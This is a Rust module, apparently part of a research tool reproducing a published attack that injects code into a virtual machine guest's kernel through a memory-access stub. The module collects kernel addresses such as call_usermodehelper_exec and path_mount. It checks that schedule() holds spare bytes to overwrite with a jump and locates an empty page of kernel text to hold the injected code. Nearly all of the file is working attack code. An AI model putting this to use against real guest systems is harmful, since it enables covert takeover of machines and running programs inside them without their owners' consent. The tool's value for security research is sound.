//! What the CIVIC paper's way must know of a guest's kernel: addresses, read beforehand in the guest as root (`/proc/kallsyms`: Debian has
//! `System.map` with the debugging symbols only), and a look at what stands there. The kernel is kept where it was linked to (`nokaslr`).
//!
//! The paper's guessed page, 16 MiB and one page above the start of memory, is kernel text since. The code goes into the last page of the
//! kernel's text, which the alignment of its end leaves empty, and the flag into the lowest megabyte, which Linux leaves alone; both are
//! looked at first.

use anyhow::{Context, Result, ensure};

use super::code::{JUMP, SPARE, Targets};
use super::stub::Stub;

/// Where kernels map their image: `__START_KERNEL_map` (arch/x86/include/asm/page_64_types.h). Not moved, it is as far from physical
/// addresses.
pub const IMAGE: u64 = 0xffff_ffff_8000_0000;
const PAGE: u64 = 4096;
/// Physical, of the flag: in the first megabyte, which x86 kernels reserve since 5.13, and out of its firmware's way.
pub const CLAIM: u64 = 0x5000;
/// The instruction that may stand before the spare bytes: `endbr64`.
const ENDBR: [u8; 4] = [0xf3, 0x0f, 0x1e, 0xfa];

/// What must be known of the guest's kernel. Addresses are virtual ones.
#[derive(Clone, Copy)]
pub struct Kernel {
    /// What the code calls.
    pub targets: Targets,
    /// `schedule()`
    pub entry: u64,
    /// The spare bytes in it.
    pub spare: u64,
    /// The empty page.
    pub page: u64,
    /// The flag.
    pub claim: u64,
    /// What the page is full of.
    pub filler: u8,
}

const NAMES: [&str; 9] = [
    "call_usermodehelper_setup",
    "call_usermodehelper_exec",
    "kern_path",
    "path_put",
    "path_mount",
    "usleep_range_state",
    "schedule",
    "_etext",
    "page_offset_base",
];

/// What a guest's shell says it with.
pub fn look_up() -> String {
    format!("grep -E ' ({})$' /proc/kallsyms", NAMES.join("|"))
}

impl Kernel {
    /// From its symbols and a look at its memory.
    pub fn new(symbols: &str, stub: &mut Stub) -> Result<Self> {
        let at = |name: &str| symbol(symbols, name).with_context(|| format!("the guest's kernel has no {name}"));
        let targets = Targets {
            call_usermodehelper_setup: at("call_usermodehelper_setup")?,
            call_usermodehelper_exec: at("call_usermodehelper_exec")?,
            kern_path: at("kern_path")?,
            path_put: at("path_put")?,
            path_mount: at("path_mount")?,
            usleep_range_state: at("usleep_range_state")?,
        };
        let entry = at("schedule")?;
        let begins = stub.read(entry - IMAGE, ENDBR.len() + JUMP)?;
        let spare = if begins.starts_with(&ENDBR) { entry + ENDBR.len() as u64 } else { entry };
        let there = &begins[(spare - entry) as usize..][..JUMP];
        ensure!(there == SPARE, "schedule() has no spare bytes: {begins:02x?}");
        let page = (at("_etext")? - 1) & !(PAGE - 1);
        let held = stub.read(page - IMAGE, PAGE as usize)?;
        let filler = held[0];
        ensure!(held.iter().all(|byte| *byte == filler), "the last page of the kernel's text, {page:#x}, is not empty");
        let held = stub.read(CLAIM, 8)?;
        ensure!(held == [0; 8], "the memory at {CLAIM:#x} is not empty: {held:02x?}");
        let direct: [u8; 8] = stub.read(at("page_offset_base")? - IMAGE, 8)?.try_into().unwrap_or_default();
        Ok(Self { targets, entry, spare, page, claim: u64::from_le_bytes(direct) + CLAIM, filler })
    }
}

/// Of a line `ADDRESS TYPE NAME`. Some names are a function's and a variable's: the function is meant.
fn symbol(symbols: &str, name: &str) -> Option<u64> {
    let mut found: Vec<_> = symbols
        .lines()
        .filter_map(|line| {
            let mut words = line.split_whitespace();
            let (address, kind) = (words.next()?, words.next()?);
            (words.next() == Some(name)).then(|| (kind, u64::from_str_radix(address, 16).ok()))
        })
        .collect();
    // 'T' before others.
    found.sort_by_key(|(kind, _)| *kind != "T");
    found.first()?.1.filter(|at| *at > IMAGE)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn symbols_are_functions_first() {
        let table = "ffffffff82d01000 d kern_path\nffffffff81400000 T kern_path\nffffffff81000000 T other_kern_path\n\
                     ffffffff82d02000 D page_offset_base\n0000000000000000 T schedule\n";
        assert_eq!(symbol(table, "kern_path"), Some(0xffff_ffff_8140_0000));
        assert_eq!(symbol(table, "page_offset_base"), Some(0xffff_ffff_82d0_2000));
        // Hidden from who may not know.
        assert_eq!(symbol(table, "schedule"), None);
        assert_eq!(symbol(table, "path_put"), None);
        assert!(NAMES.iter().all(|name| look_up().contains(name)));
    }
}
